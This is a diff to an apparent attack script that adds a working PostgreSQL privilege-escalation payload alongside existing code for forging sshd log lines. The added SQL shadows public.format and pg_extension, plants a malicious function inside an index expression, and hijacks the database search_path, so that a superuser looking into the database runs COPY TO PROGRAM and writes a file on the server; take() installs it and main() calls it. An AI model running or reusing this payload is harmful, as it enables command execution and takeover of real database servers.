@@ -34,6 +34,23 @@ COMMANDS = [
 FORGED = b"<38>sshd[%d]: Failed password for root from 192.0.2.66 port 4711 ssh2"
 
 
+# Run by whoever asks for it, be it by a name of the server's own or by the plan of a table; of nobody's rights but a superuser's it makes use.
+TAKE = f"""
+CREATE OR REPLACE FUNCTION public.attack_take() RETURNS text LANGUAGE plpgsql AS $take$ BEGIN
+  BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
+  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
+    EXECUTE $copy$ COPY (SELECT current_user) TO PROGRAM 'cat >/var/lib/postgresql/planted-by-sql' $copy$;
+  END IF;
+  RETURN 'taken'; END $take$;
+CREATE OR REPLACE FUNCTION public.format(text, name, name) RETURNS text LANGUAGE sql AS
+  $$ SELECT public.attack_take(); SELECT pg_catalog.format('%I.%I', $2, $3) $$;
+CREATE OR REPLACE FUNCTION public.attack_plan(integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM public.attack_take(); RETURN 1; END $$;
+CREATE TABLE IF NOT EXISTS public.attack (id integer);
+CREATE INDEX IF NOT EXISTS attack_plan ON public.attack ((id + public.attack_plan(1)));
+CREATE OR REPLACE VIEW public.pg_extension AS SELECT public.attack_take()::name AS extname;
+"""
+
+
 def tries(function):
     """What is refused is no reason to give up the rest."""
 
@@ -150,6 +167,16 @@ def forge():
         way.send(FORGED % os.getpid())
 
 
+def take():
+    """Have the server's superuser run what is ours, whenever it looks into our database, and hold it up there."""
+    import psycopg
+
+    with psycopg.connect(autocommit=True) as connection:
+        connection.execute(TAKE)
+        connection.execute(f"ALTER DATABASE {connection.info.dbname} SET search_path = public, pg_catalog")
+        connection.execute(f"ALTER DATABASE {connection.info.dbname} SET idle_in_transaction_session_timeout = '1s'")
+
+
 def processes():
     return [int(name) for name in os.listdir("/proc") if name.isdigit()]
 
@@ -197,6 +224,7 @@ def main(role):
             plant(os.path.realpath(f"{own}/.."), name)
         return
     held = []
+    take()
     os.makedirs(f"{MEDIA}/inner", exist_ok=True)
     for number in range(1 << 16):
         attack(role, own, held)
